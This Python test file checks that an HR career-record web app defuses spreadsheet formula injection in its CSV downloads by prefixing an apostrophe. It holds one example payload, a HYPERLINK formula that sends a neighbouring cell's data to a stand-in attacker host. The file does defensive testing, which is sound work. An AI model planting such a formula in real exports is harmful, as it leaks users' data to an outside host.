"""The pages' CSV downloads defuse cells a spreadsheet would run as a formula, as the API's CSV does.

A recorded text (an SK reference, a unit, a post's title) starting with = + - @ (or a tab or carriage return) was
written as it is into the career record's and the audited decisions' CSV downloads: opened in a spreadsheet,
`=HYPERLINK("http://...","SK")` is a link that sends what is beside it away, and some spreadsheets run commands.
Such a cell is written with a leading apostrophe; numbers (a negative one too) stay numbers."""

from __future__ import annotations

import csv
import io
import time

import pytest
from flask.testing import FlaskClient

from tests import factories as f
from tests.functional.conftest import BUDI, World

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"SK")'


def logged_in(world: World, username: str) -> FlaskClient:
    client = world.app.test_client()
    with client.session_transaction() as session:
        session["username"] = username
        session["sid"] = "a-session"  # as a log-in names it (web.pages.auth)
        session["since"] = int(time.time())  # the log-in time (a session lasts CAREERLOG_SESSION_HOURS)
    return client


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.fixture
def recorded(world: World) -> World:
    promotion = {**f.promotion("III/c", "2018-04-01"), "reference": FORMULA}
    world.services.ledger.record(BUDI, "rank_promotion", promotion, actor="test")
    world.catch_up()
    return world


@pytest.mark.parametrize(
    ("username", "path", "column"),
    [
        ("hr", f"/pages/employees/{BUDI}/record.csv?lang=en", "Reference (decree or certificate number)"),
        ("inspector", "/pages/audits.csv", "reference"),
    ],
)
def test_a_recorded_formula_is_defused_in_a_page_csv(recorded: World, username: str, path: str, column: str) -> None:
    """(The record's CSV is headed in the page's language: tests/functional/test_record_csv_spreadsheet.py.)"""
    answer = logged_in(recorded, username).get(path)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    references = [row[column] for row in rows_of(answer.get_data(as_text=True))]
    assert "'" + FORMULA in references
    assert FORMULA not in references


def test_numbers_and_plain_text_are_kept_in_a_page_csv() -> None:
    from web.pages.export import cell

    assert cell("-12.5") == "-12.5"
    assert cell("+62") == "+62"
    assert cell("SK-1") == "SK-1"
    assert cell("@unit") == "'@unit"
    assert cell("\tx") == "'\tx"
    assert cell(["=a", "b"]) == "'=a b"
